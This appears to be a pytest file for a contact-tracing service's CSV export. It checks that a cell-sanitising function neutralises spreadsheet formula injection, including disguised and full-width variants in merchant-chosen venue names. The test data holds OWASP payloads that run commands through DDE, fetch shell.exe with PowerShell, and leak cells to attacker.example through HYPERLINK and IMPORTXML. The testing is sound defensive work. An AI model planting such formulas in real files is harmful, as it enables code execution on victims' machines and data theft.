"""A case export is a call list that spreadsheets open: no cell may run as a formula."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import timedelta

import pytest

from interface.http.exports import safe_cell
from tests.conftest import MovableClock, World, bearer

# OWASP's CSV injection examples, and the same triggers behind what spreadsheets skip or fold:
# blanks, tabs, line breaks, invisible marks and full-width signs.
OWASP = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example?leak="&A1,"Error")',
    '=IMPORTXML(CONCAT("http://attacker.example?v=",A1),"//a")',
    "=1+1",
]
DISGUISES = [
    "{}",
    " {}",
    "  {}",
    "\t{}",
    "\r{}",
    "\n{}",
    "\r\n{}",
    "\u00a0{}",
    "\u200b{}",
    "\u3000{}",
]
# Full-width and small forms of = + - @ (NFKC folds them to ASCII).
FULL_WIDTH = ["\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\ufe661+1", "\ufe621+1"]
PAYLOADS = [d.format(p) for p in OWASP for d in DISGUISES] + FULL_WIDTH


def evaluates(cell: str) -> bool:
    """Whether a spreadsheet could read this cell as a formula (it skips blanks and folds signs)."""
    if cell.startswith("'"):
        return False
    visible = "".join(
        ch for ch in cell if not ch.isspace() and unicodedata.category(ch) not in ("Cc", "Cf")
    )
    return unicodedata.normalize("NFKC", visible).startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_as_a_formula(payload: str) -> None:
    cell = safe_cell(payload)
    assert not evaluates(cell)
    assert cell.endswith(payload)  # shown whole, as text


@pytest.mark.parametrize("text", ["老王面馆", "Noodles & Tea", "3 Main St.", "a=b", "x-ray"])
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_venue_names_chosen_by_a_merchant_cannot_run_in_the_officers_export(
    world: World, clock: MovableClock
) -> None:
    agency = world.agency(["110000"])
    tracer, supervisor = world.officer(agency, "tracer"), world.officer(agency, "supervisor")
    merchant = world.merchant()
    index = world.visitor(phone="+8613988880001")
    names = [p for p in PAYLOADS if len(p) <= 80]
    start = clock.now()
    for name in names:
        world.check_in(index, world.venue(merchant, name=name, address=name))
        clock.advance(timedelta(minutes=1))
    case_id = world.approved_case(
        tracer, supervisor, "+8613988880001", start - timedelta(minutes=1), clock.now()
    )
    exported = world.client.get(
        f"/v1/cases/{case_id}/export?format=csv", headers=bearer(tracer["token"])
    )
    assert exported.status_code == 200, exported.text
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) - 1 == len(names)
    assert not [cell for cell in cells if evaluates(cell)]
